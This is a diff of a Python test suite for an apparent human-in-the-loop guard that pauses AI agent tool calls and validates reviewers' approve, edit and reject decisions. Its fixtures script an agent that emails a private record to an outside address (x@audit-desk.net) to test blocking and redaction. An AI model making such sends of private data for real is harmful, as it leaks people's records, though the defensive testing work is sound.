@@ -23,6 +23,7 @@ from guard.report.model import views_from_audit
 from tests.adapters.test_binding_langchain import READ, assert_bound, entries
 from tests.adapters.test_langchain import EXFIL, POLICY, RECORD, TASK, leak_script
 
+ALL = ["approve", "edit", "reject", "respond"]
 SECOND = tool_call("send_email", {"to": "x@audit-desk.net", "subject": "Copy", "body": RECORD}, "c5")
 
 
@@ -49,12 +50,14 @@ def test_interrupt_carries_features_redacted_sources_and_threshold(spies, receiv
     agent = agent_for(guard, spies, leak_script())
     paused = agent.invoke({"messages": [HumanMessage(TASK)]}, {"configurable": {"thread_id": "ctx"}})
     (pending,) = paused["__interrupt__"]
-    info = pending.value["guard"]
+    (request,) = pending.value["action_requests"]
+    info = request["guard"]
     assert info["threshold"] == 0.5 and "provenance_path" in info["features"]
-    assert pending.value["allowed_decisions"] == ["approve", "edit", "reject", "respond"]
+    assert request["allowed_decisions"] == ["approve", "edit", "reject", "respond"]
+    assert pending.value["review_configs"] == [{"action_name": "send_email", "allowed_decisions": ALL}]
     private = [s for s in info["sources"] if s["private"]]
     assert private and all(s["text"] == "[redacted]" for s in private)
-    assert "DE44500105175407324931" not in json.dumps(pending.value["guard"])
+    assert "DE44500105175407324931" not in json.dumps(info)
 
 
 def test_approve_is_an_audit_entry_and_the_report_does_not_count_it_as_a_refusal(spies, received) -> None:
@@ -127,45 +130,126 @@ def test_edit_that_still_leaks_is_escalated_again(spies, received) -> None:
     leak = {"to": "other@audit-desk.net", "subject": "Record", "body": RECORD}
     out = agent.invoke(Command(resume={"type": "edit", "edited_action": {"name": "send_email", "args": leak}}), config)
     (again,) = out["__interrupt__"]
-    assert again.value["args"] == leak
+    assert again.value["action_requests"][0]["args"] == leak
     agent.invoke(Command(resume={again.id: {"type": "reject"}}), config)
     assert "send_email" not in [n for n, _ in received]
 
 
+TWO_SENDS = [
+    AIMessage(content="", tool_calls=[READ]),
+    AIMessage(content="", tool_calls=[EXFIL, SECOND]),
+    AIMessage(content="done"),
+]
+
+
+def paused_on_two(guard: Guard, spies: list[Any], thread: str) -> tuple[Any, dict[str, Any], Any]:
+    """An agent paused on its turn of two escalated sends (c4, c5): (agent, config, the one interrupt)."""
+    agent = agent_for(guard, spies, TWO_SENDS)
+    config = {"configurable": {"thread_id": thread}}
+    paused = agent.invoke({"messages": [HumanMessage(TASK)]}, config)
+    (pending,) = paused["__interrupt__"]
+    return agent, config, pending
+
+
 @pytest.mark.parametrize("use_async", [False, True])
-def test_batched_review_of_two_escalations_by_interrupt_id(spies, received, use_async: bool) -> None:
-    """Two escalated calls of one turn: two interrupts, answered together by interrupt id."""
+@pytest.mark.parametrize("form", ["list", "by_call", "by_interrupt_id"])
+def test_two_escalations_of_one_turn_are_one_interrupt_approve_one_reject_the_other(
+    spies, received, use_async: bool, form: str
+) -> None:
+    """One interrupt lists both escalated sends; approving c4 and rejecting c5 runs exactly c4, once.
+
+    Catches one interrupt per call (resuming as the README shows raised LangGraph's "multiple
+    pending interrupts"), a rejected call that runs, and an approved call that runs twice or with
+    other arguments.
+    """
     guard = make_guard()
-    turns = [
-        AIMessage(content="", tool_calls=[READ]),
-        AIMessage(content="", tool_calls=[EXFIL, SECOND]),
-        AIMessage(content="done"),
-    ]
-    agent = agent_for(guard, spies, turns)
-    config = {"configurable": {"thread_id": f"batch-{use_async}"}}
+    agent = agent_for(guard, spies, TWO_SENDS)
+    config = {"configurable": {"thread_id": f"batch-{use_async}-{form}"}}
+    approve, reject = {"type": "approve", "reviewer": "ann"}, {"type": "reject", "message": "no"}
+
+    def resume(paused: dict[str, Any]) -> Command:
+        (pending,) = paused["__interrupt__"]
+        ids = [r["tool_call_id"] for r in pending.value["action_requests"]]
+        assert ids == ["c4", "c5"] and [c["action_name"] for c in pending.value["review_configs"]] == ["send_email"] * 2
+        if form == "list":
+            return Command(resume={"decisions": [approve, reject]})
+        if form == "by_call":
+            return Command(resume={"decisions": {"c5": reject, "c4": approve}})
+        return Command(resume={pending.id: {"decisions": [approve, reject]}})
 
     async def go() -> dict[str, Any]:
-        paused = await agent.ainvoke({"messages": [HumanMessage(TASK)]}, config)
-        answers = {
-            i.id: ({"type": "approve"} if i.value["tool_call_id"] == "c4" else {"type": "reject"})
-            for i in paused["__interrupt__"]
-        }
-        assert len(answers) == 2
-        return await agent.ainvoke(Command(resume=answers), config)
+        return await agent.ainvoke(resume(await agent.ainvoke({"messages": [HumanMessage(TASK)]}, config)), config)
 
     def go_sync() -> dict[str, Any]:
-        paused = agent.invoke({"messages": [HumanMessage(TASK)]}, config)
-        answers = {
-            i.id: ({"type": "approve"} if i.value["tool_call_id"] == "c4" else {"type": "reject"})
-            for i in paused["__interrupt__"]
-        }
-        assert len(answers) == 2
-        return agent.invoke(Command(resume=answers), config)
+        return agent.invoke(resume(agent.invoke({"messages": [HumanMessage(TASK)]}, config)), config)
 
-    asyncio.run(go()) if use_async else go_sync()
-    sent = [a for n, a in received if n == "send_email"]
-    assert sent == [EXFIL["args"]]
+    out = asyncio.run(go()) if use_async else go_sync()
+    assert [a for n, a in received if n == "send_email"] == [EXFIL["args"]]
+    results = {m.tool_call_id: m for m in out["messages"] if isinstance(m, ToolMessage)}
+    assert results["c4"].status == "success" and results["c5"].status == "error" and "no" in results["c5"].text
     assert sorted((r["call_id"], r["answer"]) for r in reviews(guard)) == [("c4", "approve"), ("c5", "reject")]
+    assert_bound(guard, received)
+
+
+def test_a_bare_decision_for_two_escalations_fails_closed_then_can_be_answered(spies, received) -> None:
+    """The README's single ``Command(resume={"type": ...})`` with two pending calls: a clear error, nothing runs.
+
+    Catches applying one bare answer to every call of the turn (or to the first only); the same
+    interrupt can then be answered properly.
+    """
+    from pydantic import ValidationError
+
+    guard = make_guard()
+    agent, config, _ = paused_on_two(guard, spies, "bare")
+    with pytest.raises(ValidationError, match="2 escalated calls"):
+        agent.invoke(Command(resume={"type": "approve"}), config)
+    assert "send_email" not in [n for n, _ in received] and not reviews(guard)
+    agent.invoke(Command(resume={"decisions": [{"type": "reject"}, {"type": "reject"}]}), config)
+    assert "send_email" not in [n for n, _ in received]
+    assert [r["answer"] for r in reviews(guard)] == ["reject", "reject"]
+
+
+@pytest.mark.parametrize(
+    ("answer", "error"),
+    [
+        ({"decisions": [{"type": "approve"}]}, "1 decisions for 2 escalated calls"),
+        ({"decisions": [{"type": "approve"}] * 3}, "3 decisions for 2 escalated calls"),
+        ({"decisions": {"c4": {"type": "approve"}}}, r"missing \['c5'\]"),
+        ({"decisions": {"c4": {"type": "approve"}, "c5": {"type": "reject"}, "c9": {"type": "approve"}}}, "c9"),
+        ({"decisions": [{"type": "approve"}, {"type": "allow"}]}, "unknown decision type 'allow'"),
+        ({"decisions": [{"type": "approve"}, "yes"]}, "must be a mapping"),
+        ({"decisions": [{"type": "approve"}, {"type": "respond"}]}, "needs a 'message'"),
+        ({"decisions": [{"type": "approve"}, {"type": "edit", "edited_action": {"name": "send_email"}}]}, "edit"),
+        ({"decisions": [{"type": "approve"}, {"type": "reject"}], "also": 1}, "unknown keys"),
+        ("approve", "must be a mapping"),
+    ],
+)
+def test_missing_extra_or_unknown_decisions_fail_closed(spies, received, answer: Any, error: str) -> None:
+    """A resume value that does not answer exactly c4 and c5 raises naming the problem; nothing runs or is approved.
+
+    Catches zipping a short/long list (an unanswered call left to run or a stray approval), an
+    unknown call id or decision type taken as approve (or silently as reject), and a malformed edit.
+    """
+    from pydantic import ValidationError
+
+    guard = make_guard()
+    agent, config, _ = paused_on_two(guard, spies, f"bad-{error}")
+    with pytest.raises(ValidationError, match=error):
+        agent.invoke(Command(resume=answer), config)
+    assert "send_email" not in [n for n, _ in received] and not reviews(guard)  # no review entry: nothing approved
+
+
+def test_edit_of_one_and_approve_of_the_other_in_one_turn(spies, received) -> None:
+    """edit c4 to a harmless send, approve c5: c4 runs with the edited arguments, c5 with its own, each once."""
+    guard = make_guard()
+    agent, config, _ = paused_on_two(guard, spies, "edit-approve")
+    safe = {"to": "lena.novak@example.com", "subject": "Record", "body": "Your record is on file."}
+    edit = {"type": "edit", "edited_action": {"name": "send_email", "args": safe}}
+    agent.invoke(Command(resume={"decisions": [edit, {"type": "approve"}]}), config)
+    assert sorted(json.dumps(a, sort_keys=True) for n, a in received if n == "send_email") == sorted(
+        json.dumps(a, sort_keys=True) for a in (safe, SECOND["args"])
+    )
+    assert_bound(guard, received)
 
 
 # --------------------------------------------------------------------------- shadow mode
